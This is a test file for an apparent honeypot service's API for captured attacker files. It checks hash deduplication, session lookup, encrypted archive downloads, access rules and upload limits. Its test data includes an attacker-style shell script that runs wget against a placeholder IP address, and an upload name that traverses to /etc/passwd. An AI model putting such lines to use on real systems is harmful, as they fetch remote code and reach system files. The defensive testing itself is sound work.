import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { type Api, openApi } from '../support/api-client.ts';

interface Capture {
  sha256: string;
  size_bytes: number;
  type: string;
  names: string[];
  sessions: { node_id: string; session: string }[];
  count: number;
}
const sha256 = (bytes: Uint8Array | string): string => createHash('sha256').update(bytes).digest('hex');
const script = '#!/bin/sh\nwget http://203.0.113.9/x\n';

async function scene(t: TestContext) {
  const api = await openApi(t);
  const user = await api.createUser();
  const node = await api.createNode(user);
  const keep = async (
    bytes: Uint8Array<ArrayBuffer> | string,
    query = '',
    headers: Record<string, string> = node.headers,
  ): Promise<{ status: number; body: { capture: Capture; is_new: boolean } }> => {
    const response = await fetch(`${api.address}/api/captures${query}`, {
      method: 'POST',
      headers: { 'content-type': 'application/octet-stream', ...headers },
      body: bytes,
    });
    return { status: response.status, body: (await response.json()) as never };
  };
  return { api, user, node, keep };
}
const download = (api: Api, user: { headers: Record<string, string> }, hash: string): Promise<Response> =>
  fetch(`${api.address}/api/captures/${hash}/archive`, { headers: user.headers });

const hasPython = spawnSync('python3', ['-V']).status === 0;

/** Python's zipfile, which has the decryption of its own. */
function unzip(t: TestContext, zip: Buffer): Record<string, string> {
  const folder = mkdtempSync(join(tmpdir(), 'decoyverse-test-'));
  t.after(() => rmSync(folder, { recursive: true }));
  writeFileSync(join(folder, 'a.zip'), zip);
  const program = `import hashlib, json, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
print(json.dumps({i.filename: hashlib.sha256(z.read(i, pwd=b"infected")).hexdigest() for i in z.infolist() if i.flag_bits & 1}))`;
  return JSON.parse(
    execFileSync('python3', ['-c', program, join(folder, 'a.zip')], { encoding: 'utf8' }),
  ) as Record<string, string>;
}

describe('files that visitors left', () => {
  it('are kept once by their hash, with names, sessions and a count', async (t) => {
    const { api, user, node, keep } = await scene(t);
    const first = await keep(script, '?session=s1&name=x.sh');
    assert.equal(first.status, 200);
    assert.equal(first.body.is_new, true);
    const again = await keep(script, '?session=s2&name=y.sh');
    assert.equal(again.body.is_new, false);
    const { capture } = again.body;
    assert.equal(capture.sha256, sha256(script));
    assert.equal(capture.size_bytes, script.length);
    assert.equal(capture.type, 'Script for sh');
    assert.deepEqual(capture.names, ['x.sh', 'y.sh']);
    assert.deepEqual(capture.sessions, [
      { node_id: node.id, session: 's1' },
      { node_id: node.id, session: 's2' },
    ]);
    assert.equal(capture.count, 2);
    await keep('other', '?session=s2');
    const list = async (query: string): Promise<string[]> => {
      const found: string[] = [];
      let cursor: string | null = '';
      while (cursor !== null) {
        const more: string = cursor === '' ? '' : `&cursor=${encodeURIComponent(cursor)}`;
        const page: { body: { items: Capture[]; next_cursor: string | null } } = await api.call(
          'GET',
          `/api/captures?limit=1${query}${more}`,
          { headers: user.headers },
        );
        found.push(...page.body.items.map((one) => one.sha256));
        cursor = page.body.next_cursor;
      }
      return found;
    };
    assert.deepEqual(await list(''), [sha256('other'), sha256(script)]);
    assert.deepEqual(await list('&session=s1'), [sha256(script)]);
    assert.deepEqual(await list('&session=none'), []);
  });

  it('are found by the twenty latest sessions they came in, of whatever node, until they are deleted', async (t) => {
    const { api, user, node, keep } = await scene(t);
    const other = await api.createNode(user);
    const of = async (session: string, headers = user.headers): Promise<string[]> => {
      const { body } = await api.call<{ items: Capture[] }>('GET', `/api/captures?session=${session}`, {
        headers,
      });
      return body.items.map((one) => one.sha256);
    };
    for (let i = 0; i <= 20; i++) await keep(script, `?session=s${i}`);
    assert.deepEqual(await of('s0'), [], 'the first of twenty-one is no longer named');
    assert.deepEqual(await of('s1'), [sha256(script)]);
    // The same name on another node; the capture is one.
    await keep(script, '?session=s20', other.headers);
    await keep('later', '?session=s20', node.headers);
    assert.deepEqual(await of('s20'), [sha256('later'), sha256(script)]);
    await keep(script, '?session=s20');
    assert.deepEqual(await of('s20'), [sha256(script), sha256('later')], 'reported again');
    assert.deepEqual(await of('s20', (await api.createUser()).headers), [], 'another tenant');
    await api.call('DELETE', `/api/captures/${sha256(script)}`, { headers: user.headers });
    assert.deepEqual(await of('s20'), [sha256('later')]);
    await keep(script);
    assert.deepEqual(await of('s20'), [sha256('later')], 'what was deleted is not found by its old sessions');
  });

  it('leave only as an archive that is encrypted, for who has the right, and the audit log says so', async (t) => {
    const { api, user, keep } = await scene(t);
    const bytes = Buffer.from(Array.from({ length: 700_000 }, (_, at) => (at * 7919) >>> 3));
    await keep(bytes, '?session=s1&name=..%2F..%2Fetc%2Fpasswd');
    const hash = sha256(bytes);
    const answer = await download(api, user, hash);
    assert.equal(answer.status, 200);
    assert.equal(answer.headers.get('content-type'), 'application/zip');
    assert.equal(answer.headers.get('content-disposition'), `attachment; filename="${hash}.zip"`);
    const zip = Buffer.from(await answer.arrayBuffer());
    assert.ok(!zip.includes(bytes.subarray(1000, 1100)), 'the bytes stand in the archive');
    if (hasPython) assert.deepEqual(unzip(t, zip), { [hash]: hash });
    else t.diagnostic('python3 is not on this machine: the archive was not opened');
    assert.equal((await download(api, user, hash.toUpperCase())).status, 200);
    const audit = await api.call<{ items: { kind: string; data: { params: object } }[] }>(
      'GET',
      '/api/audit',
      {
        headers: user.headers,
      },
    );
    assert.equal(audit.body.items[0]?.kind, 'Captured file downloaded');
    assert.ok(JSON.stringify(audit.body.items[0]?.data.params).includes(hash.toUpperCase()));
    const { body } = await api.call<{ key: string }>('POST', '/api/keys', {
      headers: user.headers,
      body: { name: 'reader', scopes: ['read'] },
    });
    const reader = { headers: { authorization: `Bearer ${body.key}` } };
    assert.equal((await api.call('GET', `/api/captures/${hash}`, reader)).status, 200);
    assert.equal((await download(api, reader, hash)).status, 403);
    assert.equal((await download(api, { headers: {} }, hash)).status, 401);
    const stranger = await api.createUser();
    assert.equal((await download(api, stranger, hash)).status, 404);
    assert.equal(
      (await api.call('DELETE', `/api/captures/${hash}`, { headers: stranger.headers })).status,
      404,
    );
    assert.equal((await api.call('DELETE', `/api/captures/${hash}`, { headers: user.headers })).status, 200);
    assert.equal((await download(api, user, hash)).status, 404);
  });

  it('are refused empty, too large, over the quota or from strangers', async (t) => {
    const { node, keep } = await scene(t);
    assert.equal((await keep('')).status, 400);
    assert.equal((await keep(script, '', { 'x-node-key': 'nk_wrong' })).status, 401);
    assert.equal((await keep(Buffer.alloc(16 * 1024 * 1024 + 1))).status, 413);
    assert.equal((await keep(script, `?name=${'x'.repeat(300)}`)).status, 422);
    const packed = await keep(script, '', { ...node.headers, 'content-encoding': 'gzip' });
    assert.equal(packed.status, 415);
    assert.equal((await keep(Buffer.alloc(16 * 1024 * 1024))).status, 200);
  });
});
